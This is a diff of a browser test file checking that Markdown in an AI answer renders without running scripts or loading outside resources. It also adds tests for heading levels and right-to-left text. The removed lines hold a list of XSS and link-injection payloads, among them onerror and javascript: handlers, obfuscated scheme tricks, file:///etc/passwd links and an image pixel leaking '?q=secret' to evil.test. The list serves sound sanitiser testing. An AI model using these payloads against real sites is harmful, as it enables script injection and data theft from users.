@@ -1,48 +1,9 @@
 /** Whatever an answer says, showing it loads nothing, runs nothing, and leads to https: and mailto: only. */
 import assert from 'node:assert/strict';
+import { HOSTILE } from '../fakes/hostileMarkdown';
 import { answeredWith, CITATIONS } from '../fakes/run-events';
 import { startHarness, type Harness, type Panel } from './harness';
 import { requireBrowser } from './setup';
-
-const HOSTILE = [
-  '<script>window.pwned = 1</script>',
-  '<img src=x onerror="window.pwned = 1">',
-  '<svg/onload=window.pwned=1>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<style>body { background: url(https://evil.test/css) }</style>',
-  '<a href="command:workbench.action.terminal.new">x</a>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
-  '<button data-evidence="e1" onclick="window.pwned=1">1</button>',
-  '[x](javascript:window.pwned=1)',
-  '[x](JaVaScRiPt:window.pwned=1)',
-  '[x](java&#x0A;script:window.pwned=1)',
-  '[x](&#106;avascript:window.pwned=1)',
-  '[x](command:workbench.action.terminal.new)',
-  '[x](vscode://file/etc/passwd)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](http://evil.test/plain)',
-  '[x](//evil.test/relative)',
-  '[x](notes/a.md)',
-  '[x](file:///etc/passwd)',
-  '[x]( https://evil.test "title\\" onmouseover=window.pwned=1")',
-  '![leak](https://evil.test/pixel.png?q=secret)',
-  '![leak](http://evil.test/pixel.png)',
-  '![leak](data:image/svg+xml;base64,PHN2Zz4=)',
-  '[![nested](https://evil.test/nested.png)](command:evil)',
-  '[![nested](javascript:1)](https://evil.test/)',
-  '![[x](javascript:1)](https://evil.test/alt.png)',
-  '[ref]\n\n[ref]: javascript:window.pwned=1',
-  '![ref]\n\n[ref]: https://evil.test/ref.png',
-  '[e1]\n\n[e1]: https://evil.test/mark',
-  '<https://evil.test/auto> <javascript:window.pwned=1> <command:evil> <mailto:a@b.test>',
-  'https://evil.test/bare www.evil.test a@evil.test',
-  '| <img src=x> | ![i](https://evil.test/cell) |\n|:-:|--:|\n| [x](command:y) | `<script>` |',
-  '```html onload=x\n<script>window.pwned = 1</script>\n```',
-  '    <script>window.pwned = 1</script>',
-  '# <img src=x onerror=window.pwned=1>\n\n> <form action="https://evil.test"><input name=attributes>',
-  '[a [e1] b](https://evil.test/around-a-mark)',
-  `${'['.repeat(2000)}${'![('.repeat(500)}${'> '.repeat(300)}x`,
-];
 
 /** What is in the rendered answer: every tag, and every attribute that could name an address or a script. */
 const INVENTORY = `(() => {
@@ -65,7 +26,7 @@ const ALLOWED_TAGS = new Set(
   ),
 );
 const ALLOWED_ATTRIBUTES = new Set(
-  'href title rel class type start tabindex data-evidence data-mark aria-label'.split(' '),
+  'href title rel class type start tabindex dir data-evidence data-mark aria-label'.split(' '),
 );
 
 describe('Markdown of an answer', () => {
@@ -139,5 +100,22 @@ describe('Markdown of an answer', () => {
     assert.deepEqual(await marks(), ['1']);
     const label = await answer().locator('button').getAttribute('aria-label');
     assert.equal(label, 'Source 1: "><img src=x onerror=alert(1)> lines 3-5, quote found');
+  });
+
+  it('leaves out no level of headings, whichever the answer uses', async () => {
+    const levels = async (text: string) => {
+      await render(text);
+      const all = "[...document.querySelectorAll('.answer :is(h1, h2, h3, h4, h5, h6)')]";
+      return panel.page.evaluate<string[]>(`${all}.map(({ localName }) => localName)`);
+    };
+    assert.deepEqual(await levels('## a\n\n#### b\n\n## c\n\n#### d'), ['h3', 'h4', 'h3', 'h4']);
+    assert.deepEqual(await levels('### a\n\n# b\n\n### c'), ['h3', 'h3', 'h4']);
+  });
+
+  it('reads each block from the side of its script', async () => {
+    await render('English.\n\nعمق الميناء');
+    const sides =
+      "[...document.querySelectorAll('.answer .markdown p')].map((each) => each.matches(':dir(rtl)'))";
+    assert.deepEqual(await panel.page.evaluate<boolean[]>(sides), [false, true]);
   });
 });
